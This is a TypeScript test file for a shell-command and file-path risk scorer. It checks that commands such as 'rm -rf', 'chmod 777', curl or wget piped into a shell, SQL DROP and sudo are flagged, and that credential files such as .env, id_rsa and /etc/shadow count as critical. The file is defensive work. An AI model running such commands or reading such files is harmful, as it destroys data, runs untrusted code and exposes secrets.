import { describe, expect, test } from 'vitest'
import type { World } from '../core/call.ts'
import { analyse } from '../shell/analyse.ts'
import { madeUpPlace, memoryFacts } from '../testing.ts'
import { locate } from './locate.ts'
import { commandRisk, pathRisk } from './risk.ts'
import { isCredential } from './sensitive.ts'

const files = { '/home/dev/project/link': { link: '/data/other' } } as const
const world: World = { place: madeUpPlace, facts: memoryFacts({ files }), sensitive: [] }
const report = (command: string) => commandRisk(analyse(command, world))

const flagged: readonly (readonly [title: string, command: string, factor: string])[] = [
  ['R27: rm -rf', 'rm -rf build', 'recursive forced delete'],
  ['R27: rm with the flags apart', 'rm -r build -f', 'recursive forced delete'],
  ['R28: chmod 777', 'chmod 777 a.sh', 'permissions for everyone'],
  ['R28: chmod 777 after a flag', 'chmod -R 777 src', 'permissions for everyone'],
  ['R29: curl into bash', 'curl https://x.example/i | bash', 'download piped into a shell'],
  ['R29: wget into sh', 'wget -qO- https://x.example/i | sh', 'download piped into a shell'],
  ['R30: DROP', 'psql -c "DROP TABLE users"', 'SQL drop or truncate'],
  ['R30: TRUNCATE', 'psql -c "truncate table users"', 'SQL drop or truncate'],
  ['R31: sudo', 'sudo id', 'raised privileges'],
  ['R31: a subshell', '(ls)', 'subshell or substitution'],
  ['R31: a substitution', 'echo $(date)', 'subshell or substitution'],
  ['R31: a pipe with a redirect', 'ls | sort > a', 'pipe with redirect'],
]

describe('one factor is flagged by name, and is high', () => {
  test.each(flagged)('%s', (_title, command, factor) =>
    expect(report(command)).toEqual({ risk: 'high', factors: [factor] }),
  )
})

const levels: readonly (readonly [title: string, command: string, risk: string])[] = [
  ['R31: one simple command is low', 'ls -la', 'low'],
  ['R31: a pipe is medium', 'ls | wc -l', 'medium'],
  ['R31: a chain is medium', 'ls && pwd', 'medium'],
  ['R31: a redirect is medium', 'ls > a', 'medium'],
  ['R31: two factors are critical', 'sudo rm -rf build', 'critical'],
  ['R31: three factors are critical', 'sudo rm -rf $(cat list)', 'critical'],
]

describe('risk of a command', () => {
  test.each(levels)('%s', (_title, command, risk) => expect(report(command).risk).toBe(risk))
})

test('R36: the guard reports a risk and its factors, and decides nothing', () => {
  expect(Object.keys(report('rm -rf /')).sort()).toEqual(['factors', 'risk'])
  expect(Object.keys(pathRisk('/etc/shadow', 'read')).sort()).toEqual(['factors', 'risk'])
})

const credentials = [
  '.env',
  '.env.local',
  '.ssh/config',
  '.aws/config',
  '.gnupg/pubring.kbx',
  'a.key',
  'a.pem',
  'a.p12',
  'a.pfx',
  'id_rsa',
  'id_ed25519',
  'credentials',
  'secret.yaml',
  'secrets.json',
  'a.keystore',
  'token.json',
]

describe('R37: credentials', () => {
  test.each(credentials)('%s is one', path => {
    expect(isCredential(`/w/${path}`)).toBe(true)
    expect(pathRisk(`/w/${path}`, 'read')).toEqual({ risk: 'critical', factors: ['credential file'] })
  })
  test.each(['src/secretary.py', 'src/a.ts'])('%s is not one', path => expect(isCredential(`/w/${path}`)).toBe(false))
})

describe('R38: a `..` component is traversal', () => {
  test.each([
    ['../a', true],
    ['a/../b', true],
    ['a/..', true],
    ['a..b', false],
    ['..a/b', false],
  ])('%s: %s', (path, climbs) => expect(pathRisk(path, 'read').factors.includes('path traversal')).toBe(climbs))
})

test('R39: a write looks worse than a read of the same file', () => {
  expect(pathRisk('a.ts', 'read').risk).toBe('low')
  expect(pathRisk('a.ts', 'write').risk).toBe('medium')
})

describe('R13: a path is resolved before its zone is determined', () => {
  test.each([
    ['links are followed', 'link/a', '/data/other/a', 'outside'],
    ['`..` goes up from where a link leads', 'link/../a', '/data/a', 'outside'],
    ['a plain path stays inside', 'src/a', '/home/dev/project/src/a', 'workspace'],
  ])('%s', (_title, path, resolved, zone) => {
    expect(locate({ kind: 'write', path, cwd: madeUpPlace.cwd, how: 'operand' }, world)).toMatchObject({
      path: resolved,
      zone,
    })
  })
})
